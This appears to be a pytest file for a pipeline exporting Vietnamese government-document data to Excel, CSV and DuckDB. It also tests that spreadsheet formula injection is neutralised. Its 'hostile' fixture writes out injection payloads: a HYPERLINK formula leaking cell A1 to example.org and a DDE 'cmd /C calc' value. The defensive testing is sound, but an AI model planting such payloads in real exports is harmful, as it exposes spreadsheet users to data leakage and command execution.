"""Exports: everything is in them, and nothing in them runs."""

from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from pipeline.cli import main
from pipeline.dataset import open_dataset
from pipeline.errors import RequestError
from pipeline.exports import FORMATS, export, workbook
from pipeline.exports.cells import csv_lines, safe_text
from pipeline.rows import Tables
from pipeline.schema import TABLES
from pipeline.views import connect_with_views
from tests.conftest import read_samples
from tests.publishing import complete_documents, publish

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
LONG = "dài " * 20_000


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data set whose texts are made to run in a spreadsheet."""
    texts = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "  =1+1", "https://example.org", "000123"]
    tables: list[Tables] = read_samples()
    for document in tables:
        for number, row in enumerate(document["targets"]):
            row["subject"] = texts[number % len(texts)]
        document["documents"][0]["title"] = LONG
    out = tmp_path_factory.mktemp("hostile") / "outputs"
    publish(out, complete_documents(tables))
    return out


def published_values(value: Any) -> Any:
    """A value as a sheet gives it back: lists as text, no difference between 3 and 3.0."""
    if isinstance(value, list):
        return bool(value)
    return float(value) if isinstance(value, int | float) else value


def sheet_values(value: Any, kind: type) -> Any:
    if kind is list:
        return value is not None
    if isinstance(value, datetime):
        return value.date()
    return float(value) if isinstance(value, int | float) else value


def test_the_workbook_holds_every_table_whole(published_samples: Path, tmp_path: Path) -> None:
    assert export(open_dataset(published_samples), "xlsx", tmp_path / "a.xlsx") == []
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == list(TABLES)
    for name in TABLES:
        rows = open_dataset(published_samples).rows(name)
        head, *lines = book[name].iter_rows(values_only=True)
        assert book[name].freeze_panes == "A2"
        assert len(lines) == len(rows)
        for row, line in zip(rows, lines, strict=True):
            assert list(head) == list(row)
            found = [sheet_values(cell, type(value)) for cell, value in zip(line, row.values(), strict=True)]
            assert found == [published_values(value) for value in row.values()]


def test_nothing_in_the_workbook_runs_or_is_turned_into_something_else(hostile: Path, tmp_path: Path) -> None:
    messages = export(open_dataset(hostile), "xlsx", tmp_path / "a.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["targets"]
    head = [cell.value for cell in sheet[1]]
    column = head.index("subject") + 1
    cells = [sheet.cell(line, column) for line in range(2, sheet.max_row + 1)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.hyperlink for cell in cells} == {None}
    assert {"000123", FORMULA, "https://example.org"} <= {cell.value for cell in cells}
    (message,) = messages
    assert message.startswith("documents.title: 5 texts are longer than 32767 characters")
    titles = openpyxl.load_workbook(tmp_path / "a.xlsx")["documents"]
    assert max(len(str(cell.value)) for line in titles for cell in line) == 32_767


def test_what_a_sheet_does_not_take_stands_on_the_next(
    published_samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "ROWS_A_SHEET", 101)
    messages = export(open_dataset(published_samples), "xlsx", tmp_path / "a.xlsx")
    assert "targets: 158 rows are more than a sheet takes; they stand on 2 sheets." in messages
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert [book[name].max_row for name in ("targets", "targets 2")] == [101, 59]
    assert book["targets 2"]["A1"].value == "doc_id"


def test_csv_gives_every_value_back(published_samples: Path, tmp_path: Path) -> None:
    assert export(open_dataset(published_samples), "csv", tmp_path / "csv") == []
    assert {path.name for path in (tmp_path / "csv").iterdir()} == {f"{name}.csv" for name in TABLES}
    assert (tmp_path / "csv" / "targets.csv").read_bytes().startswith(b"\xef\xbb\xbfdoc_id,record_id,")
    with (tmp_path / "csv" / "targets.csv").open(encoding="utf-8-sig", newline="") as file:
        lines = list(csv.DictReader(file))
    rows = open_dataset(published_samples).rows("targets")
    for name in ("record_id", "subject", "indicator_id", "quote"):
        assert [line[name].removeprefix("'") or None for line in lines] == [row[name] for row in rows]
    assert [float(line["value"]) for line in lines if line["value"]] == [
        row["value"] for row in rows if row["value"] is not None
    ]


def test_no_cell_of_csv_begins_like_a_formula(hostile: Path, tmp_path: Path) -> None:
    export(open_dataset(hostile), "csv", tmp_path / "csv")
    for path in (tmp_path / "csv").iterdir():
        with path.open(encoding="utf-8-sig", newline="") as file:
            starts = {cell.lstrip(" ")[:1] for line in csv.reader(file) for cell in line}
        assert not starts & set("=+-@\t\r"), path.name


@given(st.text())
def test_a_safe_text_keeps_its_words_and_never_begins_like_a_formula(text: str) -> None:
    safe = safe_text(text)
    assert safe in (text, f"'{text}")
    assert not safe.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_of_csv_stay_numbers() -> None:
    lines = list(csv_lines(["a", "b"], [[-1.5, None], ["-1.5", ["=x"]], [date(2025, 1, 2), []]]))
    assert lines == ["\ufeffa,b\n", "-1.5,\n", '\'-1.5,"[""=x""]"\n', "2025-01-02,\n"]


def test_the_database_holds_tables_views_and_their_meaning(published_samples: Path, tmp_path: Path) -> None:
    assert export(open_dataset(published_samples), "duckdb", tmp_path / "a.duckdb") == []
    with duckdb.connect(str(tmp_path / "a.duckdb"), read_only=True) as connection:
        for name in TABLES:
            (count,) = connection.execute(f'SELECT count(*) FROM "{name}"').fetchone() or (None,)
            assert count == open_dataset(published_samples).arrow(name).num_rows
        views = connection.execute("SELECT view_name, comment FROM duckdb_views() WHERE NOT internal").fetchall()
        assert len(views) == 6
        assert all(comment for _, comment in views)
        meanings = connection.execute("SELECT comment FROM duckdb_columns() WHERE table_name = 'targets'").fetchall()
        assert all(meaning for (meaning,) in meanings)
        best = "SELECT place, value FROM targets_by_commune WHERE indicator_id = 'health-record' ORDER BY value DESC"
        assert connection.execute(best).fetchall() == [
            ("phường Ngọc Sơn, Thanh Hóa", 92.0),
            ("xã Hưng Đạo, Tứ Kỳ, Hải Dương", 80.0),
            ("xã Phùng Minh, Ngọc Lặc, Thanh Hóa", 75.0),
            ("UBND huyện Ba Tơ, Quảng Ngãi", 70.0),
        ]
        sums = "SELECT source, amount FROM budget_by_source WHERE \"column\" LIKE 'Nhu cầu%' ORDER BY amount DESC"
        assert connection.execute(sums).fetchall() == [("Tổng cộng", 7100), ("NS tỉnh", 4700), ("Nguồn khác", 2400)]
        assert connection.execute("SELECT name, documents, mentions FROM most_cited LIMIT 1").fetchone() == (
            "Quyết định 749/QĐ-TTg",
            3,
            3,
        )


def test_sums_of_a_column_without_a_grand_total_are_those_of_its_items(tmp_path: Path) -> None:
    samples = read_samples()
    for document in samples:
        document["budget_lines"] = [row for row in document["budget_lines"] if row["row_kind"] != "total"]
        for row in document["budget_lines"]:
            row["amount_vnd"] = row["amount"] * 1e6 if row["row_path"] != "A.II.1" else None
    publish(tmp_path, complete_documents(samples))
    with connect_with_views(open_dataset(tmp_path)) as connection:
        found = connection.execute(
            "SELECT source, row_kind, amount, amount_vnd, amounts, len(record_ids) FROM budget_by_source "
            "WHERE \"column\" LIKE 'Nhu cầu%' ORDER BY amount DESC"
        ).fetchall()
    assert [row[:3] for row in found] == [
        ("Tổng cộng", "item", 7100),
        ("NS tỉnh", "item", 4700),
        ("Nguồn khác", "item", 2400),
    ]
    assert all(amounts == ids for *_, amounts, ids in found)
    # One amount without a unit leaves the sum without đồng.
    assert {vnd for _, _, _, vnd, _, _ in found if vnd is None}


def test_amounts_in_running_text_are_not_added_up(tmp_path: Path) -> None:
    samples = read_samples()
    lines = next(document["budget_lines"] for document in samples if document["budget_lines"])
    for row, amount in zip(lines[:2], (10367.7, 10052.7), strict=True):
        # A sum and what it is made of, as prose names them: 10.367,7 tỷ, of which 10.052,7 tỷ.
        row |= {"row_kind": "text", "amount": amount, "column": None, "source": None, "table_no": None, "year": None}
    publish(tmp_path, complete_documents(samples))
    with connect_with_views(open_dataset(tmp_path)) as connection:
        found = connection.execute(
            "SELECT amount, amounts, record_ids FROM budget_by_source WHERE row_kind = 'text' ORDER BY amount DESC"
        ).fetchall()
    assert [row[:2] for row in found] == [(10367.7, 1), (10052.7, 1)]
    assert [row[2] for row in found] == [[row["record_id"]] for row in lines[:2]]


@pytest.mark.parametrize("form", FORMATS)
def test_the_command_replaces_what_stood_there(published_samples: Path, tmp_path: Path, form: str) -> None:
    for _ in range(2):
        arguments = ["export", str(published_samples), "--format", form, "--out", str(tmp_path / "there")]
        result = CliRunner().invoke(main, arguments)
        assert (result.exit_code, result.output) == (0, f"{tmp_path / 'there'}\n")
    assert [path.name for path in tmp_path.iterdir()] == ["there"]


@pytest.mark.parametrize("form", FORMATS)
def test_a_place_that_cannot_be_written_is_named(published_samples: Path, tmp_path: Path, form: str) -> None:
    (tmp_path / "file").write_text("", encoding="utf-8")
    with pytest.raises(RequestError, match=r"file/a cannot be written: .+\. Name another place\."):
        export(open_dataset(published_samples), form, tmp_path / "file" / "a")


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_the_same_data_set_gives_the_same_bytes(published_samples: Path, tmp_path: Path, form: str) -> None:
    for name in "ab":
        export(open_dataset(published_samples), form, tmp_path / name)
    one, two = (
        sorted(place.rglob("*.csv")) if place.is_dir() else [place] for place in (tmp_path / "a", tmp_path / "b")
    )
    assert [path.read_bytes() for path in one] == [path.read_bytes() for path in two]
